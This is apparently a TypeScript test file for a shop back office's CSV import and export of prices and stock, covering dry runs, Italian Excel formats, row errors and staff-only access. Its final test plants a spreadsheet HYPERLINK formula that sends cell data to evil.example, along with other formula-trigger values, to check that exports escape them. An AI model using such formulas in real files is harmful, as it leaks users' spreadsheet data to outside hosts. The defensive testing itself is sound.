// Prices and stock by file (docs/decisions/194-back-office-catalogue.md): a dry run reports every
// change and every error with its line and changes nothing; apply writes every row or none; the
// export is the same file and reads back as no change.
import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { catalogueCsvReportSchema } from '../../contract/admin-catalogue.js';
import { parseCsv } from '../../server/domain/admin-catalogue/csv-parse.js';
import { articleSchema } from '../../contract/catalogue.js';
import { articles, staffActions } from '../../server/db/schema.js';
import { catalogueVersion } from '../../server/domain/catalogue/version.js';
import { insertSimpleArticle, staffCall, staffOk, type Staff } from './admin-catalogue-fixtures.js';
import { expectStaffOnly, staffSignIn } from './admin-fixtures.js';
import { containerWithVariants, getJson } from './catalogue-fixtures.js';
import { expectError, startTestApi, type TestApi } from './harness.js';

let api: TestApi;
let staff: Staff;
beforeAll(async () => {
  api = await startTestApi({ env: { AUTH_RATE_PER_EMAIL: '10000', AUTH_RATE_PER_CLIENT: '10000' } });
  staff = await staffSignIn(api);
});
afterAll(async () => { await api?.close(); });

const DRY_RUN = '/v1/admin/catalogue/csv/dry-run';
const APPLY = '/v1/admin/catalogue/csv/apply';
const dryRun = async (csv: string) => catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', DRY_RUN, csv));
const exported = async () => {
  const res = await staffCall(api, staff, 'GET', '/v1/admin/catalogue/csv');
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain('text/csv');
  return res.text();
};
const versionNow = async () => (await catalogueVersion(api.db, 0, 0, 0).get()).version;
const rowsOf = (ids: number[]) => api.db.select().from(articles).where(inArray(articles.id, ids)).orderBy(articles.id);
const csvActions = async () => (await api.db.select().from(staffActions).where(eq(staffActions.action, 'catalogue.csv'))).length;

describe('the catalogue file calls', () => {
  it('are for staff only', async () => {
    const csv = { method: 'POST', headers: { 'content-type': 'text/csv' }, body: 'sku,price\nX,1.00\n' };
    await expectStaffOnly(api, DRY_RUN, csv);
    await expectStaffOnly(api, APPLY, csv);
    await expectStaffOnly(api, '/v1/admin/catalogue/csv');
  });
});

describe('a good file', () => {
  it('is reported by the dry run without a change, then applied whole: the shop shows it and the version moved once', async () => {
    const [a, b, c] = [await insertSimpleArticle(api.db), await insertSimpleArticle(api.db), await insertSimpleArticle(api.db, { priceDiscounted: 2000 })];
    const csv = [
      'sku,price,discounted_price,stock,on_sale',
      `${a.sku},1234.50,999.9,7,true`,
      `${b.sku},25.00,,5,false`,
      `"${c.sku}",25,,,yes`,
      '',
    ].join('\r\n');
    const before = await rowsOf([a.id, b.id, c.id]);
    const versionBefore = await versionNow();

    const planned = await dryRun(csv);
    expect(planned).toMatchObject({ rows: 3, unchanged: 0, errors: [], applied: false });
    expect(planned.changes).toEqual([
      { line: 2, sku: a.sku, id: a.id, before: { price: 2500, discountedPrice: null, stockTracked: true, stock: 5, onSale: true }, after: { price: 123_450, discountedPrice: 99_990, stockTracked: true, stock: 7, onSale: true } },
      { line: 3, sku: b.sku, id: b.id, before: { price: 2500, discountedPrice: null, stockTracked: true, stock: 5, onSale: true }, after: { price: 2500, discountedPrice: null, stockTracked: true, stock: 5, onSale: false } },
      { line: 4, sku: c.sku, id: c.id, before: { price: 2500, discountedPrice: 2000, stockTracked: true, stock: 5, onSale: true }, after: { price: 2500, discountedPrice: null, stockTracked: false, stock: 5, onSale: true } },
    ]);
    expect(await rowsOf([a.id, b.id, c.id])).toEqual(before);
    expect(await versionNow()).toBe(versionBefore);

    const applied = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, csv));
    expect(applied).toMatchObject({ rows: 3, applied: true, errors: [] });
    expect(applied.changes).toEqual(planned.changes);
    const after = await rowsOf([a.id, b.id, c.id]);
    expect(after.map((r) => [r.priceGross, r.priceDiscounted, r.stockOn, r.stockQuantity, r.available])).toEqual([
      [123_450, 99_990, true, 7, true], [2500, null, true, 5, false], [2500, null, false, 5, true],
    ]);
    expect(await versionNow()).not.toBe(versionBefore);
    const shown = articleSchema.parse(await getJson(api, `/v1/catalogs/articles/${a.id}`));
    expect(shown.prices).toMatchObject({ gross: 123_450, discounted: 99_990 });
    const [action] = await api.db.select().from(staffActions).where(eq(staffActions.action, 'catalogue.csv'));
    expect(action).toMatchObject({ subjectType: 'catalogue', after: { rows: 3, changed: 3, unchanged: 0 } });
  });

  it('takes only some columns, in any order, changing only those', async () => {
    const a = await insertSimpleArticle(api.db, { priceDiscounted: 1000 });
    const planned = await dryRun(`stock,SKU\n42,${a.sku}\n`);
    expect(planned.changes).toEqual([{
      line: 2, sku: a.sku, id: a.id,
      before: { price: 2500, discountedPrice: 1000, stockTracked: true, stock: 5, onSale: true },
      after: { price: 2500, discountedPrice: 1000, stockTracked: true, stock: 42, onSale: true },
    }]);
  });
});

describe('a file as a spreadsheet set to Italian saves it (decision 233)', () => {
  it('reads semicolons, a byte-order mark, decimal commas, grouped thousands, a euro sign and VERO / FALSO, and applies them', async () => {
    const a = await insertSimpleArticle(api.db);
    const b = await insertSimpleArticle(api.db, { priceDiscounted: 1000 });
    const csv = `\ufeffsku;price;discounted_price;stock;on_sale\r\n${a.sku};16,50;;1.234;VERO\r\n${b.sku};"1.299,00 €";999,90;0;FALSO\r\n`;
    const planned = await dryRun(csv);
    expect(planned.errors).toEqual([]);
    expect(planned.changes.map((c) => [c.sku, c.after])).toEqual([
      [a.sku, { price: 1650, discountedPrice: null, stockTracked: true, stock: 1234, onSale: true }],
      [b.sku, { price: 129_900, discountedPrice: 99_990, stockTracked: true, stock: 0, onSale: false }],
    ]);
    const applied = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, csv));
    expect(applied.applied).toBe(true);
    expect((await rowsOf([a.id])).map((r) => [r.priceGross, r.stockQuantity])).toEqual([[1650, 1234]]);
  });

  it('still refuses a price it cannot read as one, with its line, in words for the file at hand', async () => {
    const a = await insertSimpleArticle(api.db);
    const planned = await dryRun(`sku;price;on_sale\n${a.sku};16,505;forse\n`);
    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([[2, 'BAD_PRICE'], [2, 'BAD_BOOLEAN']]);
    // A spreadsheet set to Italian writes commas and VERO / FALSO: the words say so, not "1234.50" and "true".
    expect(planned.errors.map((e) => e.message)).toEqual([
      'Prezzo non valido: euro con la virgola e al massimo due decimali, maggiore di zero e al massimo 1.000.000,00 (es. 1.234,50)',
      'Valore di on_sale non valido: VERO o FALSO',
    ]);
    const commas = await dryRun(`sku,price,on_sale\n${a.sku},16.505,maybe\n`);
    expect(commas.errors.map((e) => e.message)).toEqual([
      'Prezzo non valido: euro con il punto e al massimo due decimali, maggiore di zero e al massimo 1000000.00 (es. 1234.50)',
      'Valore di on_sale non valido: true o false',
    ]);
  });
});

describe('a file with bad rows', () => {
  it('is reported row by row with each line, and apply refuses it whole, changing nothing', async () => {
    const [a, b, c, d, e] = [
      await insertSimpleArticle(api.db), await insertSimpleArticle(api.db), await insertSimpleArticle(api.db),
      await insertSimpleArticle(api.db), await insertSimpleArticle(api.db),
    ];
    const container = await containerWithVariants(api.db);
    const [containerRow] = await rowsOf([container.id]);
    const csv = [
      'sku,price,discounted_price,stock,on_sale',
      `${a.sku},30.00,,8,true`,
      'NO-SUCH-CODE,10.00,,1,true',
      `${b.sku},12,50,,1,true`,
      `${c.sku},1.234,,1,true`,
      `${d.sku},10.00,,-1,maybe`,
      `${a.sku},31.00,,8,true`,
      `${e.sku},10.00,10.00,1,true`,
      `${containerRow!.sku},10.00,,1,true`,
    ].join('\n');
    const ids = [a.id, b.id, c.id, d.id, e.id];
    const before = await rowsOf(ids);
    const versionBefore = await versionNow();
    const actionsBefore = await csvActions();

    const planned = await dryRun(csv);
    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([
      [3, 'UNKNOWN_SKU'], [4, 'WRONG_COLUMN_COUNT'], [5, 'BAD_PRICE'], [6, 'BAD_STOCK'], [6, 'BAD_BOOLEAN'],
      [7, 'DUPLICATE_SKU'], [8, 'BAD_DISCOUNT'], [9, 'NOT_SELLABLE'],
    ]);
    expect(planned.errors.every((e) => e.message !== '')).toBe(true);
    expect(planned.changes.map((c) => c.line)).toEqual([2]);

    const error = await expectError(await staffCall(api, staff, 'POST', APPLY, csv), 422, 'CSV_INVALID');
    const refused = catalogueCsvReportSchema.parse(error.payload);
    expect(refused.applied).toBe(false);
    expect(refused.errors).toEqual(planned.errors);
    expect(await rowsOf(ids)).toEqual(before);
    expect(await versionNow()).toBe(versionBefore);
    expect(await csvActions()).toBe(actionsBefore);
  });

  it('reports a header it cannot read, or an unclosed quote, and a message in the asked language', async () => {
    expect((await dryRun('code,price\nA,1.00\n')).errors.map((e) => e.code)).toEqual(['CSV_HEADER']);
    expect((await dryRun('')).errors.map((e) => e.code)).toEqual(['CSV_HEADER']);
    expect((await dryRun('sku,price\n"A,1.00\n')).errors.map((e) => [e.line, e.code])).toEqual([[2, 'CSV_MALFORMED']]);
    const english = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', `${DRY_RUN}?lang=en`, 'sku,price\nNO-SUCH,1.00\n'));
    expect(english.errors[0]!.message).toBe('Unknown article code');
  });

  it('over 5 MB is refused with 413 and changes nothing', async () => {
    const a = await insertSimpleArticle(api.db);
    const big = `sku,price\n${a.sku},99.00\n${'x'.repeat(5 * 1024 * 1024)}\n`;
    const res = await staffCall(api, staff, 'POST', APPLY, big);
    await expectError(res, 413, 'PAYLOAD_TOO_LARGE');
    expect((await rowsOf([a.id]))[0]!.priceGross).toBe(2500);
  });
});

describe('every cell by the article form\'s rules (decision 219)', () => {
  it('a NUL or another control character in a code is a row error with its line, in the dry run and the apply', async () => {
    const [a, b] = [await insertSimpleArticle(api.db), await insertSimpleArticle(api.db)];
    const csv = `sku,price\n${a.sku}\u0000,10.00\nRG\u00071,10.00\n${b.sku},10.00\n`;
    const planned = await dryRun(csv);
    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([[2, 'BAD_SKU'], [3, 'BAD_SKU']]);
    expect(planned.errors[0]!.message).toContain('Codice articolo non valido');
    expect(planned.changes.map((c) => c.sku)).toEqual([b.sku]);
    const refused = catalogueCsvReportSchema.parse((await expectError(await staffCall(api, staff, 'POST', APPLY, csv), 422, 'CSV_INVALID')).payload);
    expect(refused.errors).toEqual(planned.errors);
    expect((await rowsOf([a.id, b.id])).map((r) => r.priceGross)).toEqual([2500, 2500]);
  });

  it('refuses a price or a stock the form refuses, the dry run as the apply, and takes the form\'s highest', async () => {
    const [a, b, c, d, e, f] = await Promise.all([1, 2, 3, 4, 5, 6].map(() => insertSimpleArticle(api.db)));
    const csv = [
      'sku,price,discounted_price,stock',
      `${a!.sku},21474836.48,,5`,
      `${b!.sku},5000000.00,,5`,
      `${c!.sku},25.00,,9999999`,
      `${d!.sku},1000000.01,999999.99,1000001`,
      `${e!.sku},25.00,0.00,5`,
      `${f!.sku},1000000.00,999999.99,1000000`,
    ].join('\n');
    const ids = [a!.id, b!.id, c!.id, d!.id, e!.id, f!.id];
    const before = await rowsOf(ids);
    const actionsBefore = await csvActions();
    const planned = await dryRun(csv);
    expect(planned.errors.map((e) => [e.line, e.code])).toEqual([
      [2, 'BAD_PRICE'], [3, 'BAD_PRICE'], [4, 'BAD_STOCK'], [5, 'BAD_PRICE'], [5, 'BAD_STOCK'], [6, 'BAD_DISCOUNT'],
    ]);
    expect(planned.changes.map((c) => [c.sku, c.after.price, c.after.discountedPrice, c.after.stock])).toEqual([[f!.sku, 100_000_000, 99_999_999, 1_000_000]]);
    const english = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', `${DRY_RUN}?lang=en`, csv));
    expect(english.errors[0]!.message).toContain('at most 1000000.00');
    expect(english.errors[2]!.message).toContain('up to 1000000');

    const refused = catalogueCsvReportSchema.parse((await expectError(await staffCall(api, staff, 'POST', APPLY, csv), 422, 'CSV_INVALID')).payload);
    expect(refused.errors).toEqual(planned.errors);
    expect(await rowsOf(ids)).toEqual(before);
    expect(await csvActions()).toBe(actionsBefore);

    const highest = `sku,price,discounted_price,stock\n${f!.sku},1000000.00,999999.99,1000000\n`;
    expect(catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, highest))).toMatchObject({ applied: true, errors: [] });
    const [row] = await rowsOf([f!.id]);
    expect([row!.priceGross, row!.priceDiscounted, row!.stockQuantity]).toEqual([100_000_000, 99_999_999, 1_000_000]);
    // The same values through the article form: its bounds are the file's.
    const price = await expectError(await staffCall(api, staff, 'PATCH', `/v1/admin/articles/${f!.id}`, { price: 100_000_001 }), 400, 'VALIDATION_ERROR');
    expect(price.message).toContain('price: Prezzo non valido');
    await expectError(await staffCall(api, staff, 'PATCH', `/v1/admin/articles/${f!.id}`, { stock: 1_000_001 }), 400, 'VALIDATION_ERROR');
  });
});

describe('the export', () => {
  it('writes every sellable article with euro prices and reads back as no change; an edited line is the only change', async () => {
    const a = await insertSimpleArticle(api.db, { priceGross: 123_405, priceDiscounted: 99_900, stockQuantity: 3 });
    const u = await insertSimpleArticle(api.db, { stockOn: false, available: false });
    const csv = await exported();
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe('sku,price,discounted_price,stock,on_sale');
    expect(lines).toContain(`${a.sku},1234.05,999.00,3,true`);
    expect(lines).toContain(`${u.sku},25.00,,,false`);
    const container = await containerWithVariants(api.db);
    const [containerRow, variantRow] = await rowsOf([container.id, container.variants[0]!.id]);
    expect(lines.some((l) => l.startsWith(`${containerRow!.sku},`))).toBe(false);
    expect(lines.some((l) => l.startsWith(`${variantRow!.sku},`))).toBe(true);

    const again = await dryRun(csv);
    expect(again).toMatchObject({ rows: lines.length - 1, changes: [], unchanged: lines.length - 1, errors: [] });
    const edited = csv.replace(`${a.sku},1234.05,999.00,3,true`, `${a.sku},1234.05,999.00,4,true`);
    expect((await dryRun(edited)).changes.map((c) => [c.sku, c.before.stock, c.after.stock])).toEqual([[a.sku, 3, 4]]);
  });

  it('for Excel set to Italian: a byte-order mark, semicolons, decimal commas, VERO/FALSO; it reads back as no change (decision 233)', async () => {
    const a = await insertSimpleArticle(api.db, { priceGross: 123_405, priceDiscounted: 99_900, stockQuantity: 3 });
    const u = await insertSimpleArticle(api.db, { stockOn: false, available: false });
    const res = await staffCall(api, staff, 'GET', '/v1/admin/catalogue/csv?format=excel-it');
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder().decode(bytes);
    const lines = csv.trimEnd().split('\r\n');
    expect(lines[0]).toBe('sku;price;discounted_price;stock;on_sale');
    expect(lines).toContain(`${a.sku};1234,05;999,00;3;VERO`);
    expect(lines).toContain(`${u.sku};25,00;;;FALSO`);
    expect(await dryRun(`\ufeff${csv}`)).toMatchObject({ changes: [], unchanged: lines.length - 1, errors: [] });
    await expectError(await staffCall(api, staff, 'GET', '/v1/admin/catalogue/csv?format=xlsx'), 400, 'VALIDATION_ERROR');
  });

  it('puts a quote before a code a spreadsheet would run, and reads the file back as no change (decision 219)', async () => {
    // Codes stored before the form refused them: the file must not hand them to a spreadsheet as formulas.
    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const codes = [hyperlink, '=1+1', '+39 02 1234', '-2+3', '@SUM(A1:A9)'];
    const made = [];
    for (const sku of codes) made.push(await insertSimpleArticle(api.db, { sku }));
    const csv = await exported();
    const lines = csv.trimEnd().split('\r\n');
    expect(lines).toContain('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true');
    for (const sku of codes.slice(1)) expect(lines).toContain(`"'${sku}",25.00,,5,true`);
    const parsed = parseCsv(csv);
    expect(parsed.ok).toBe(true);
    for (const field of parsed.records.flatMap((r) => r.fields)) expect(field).not.toMatch(/^[=+\-@\t\r]/);

    expect(await dryRun(csv)).toMatchObject({ changes: [], errors: [], unchanged: lines.length - 1 });
    const edited = csv.replace('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,5,true', '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",25.00,,6,true');
    const applied = catalogueCsvReportSchema.parse(await staffOk(api, staff, 'POST', APPLY, edited));
    expect(applied.changes.map((c) => [c.id, c.sku, c.after.stock])).toEqual([[made[0]!.id, hyperlink, 6]]);
    expect((await rowsOf([made[0]!.id]))[0]!.stockQuantity).toBe(6);
  });
});
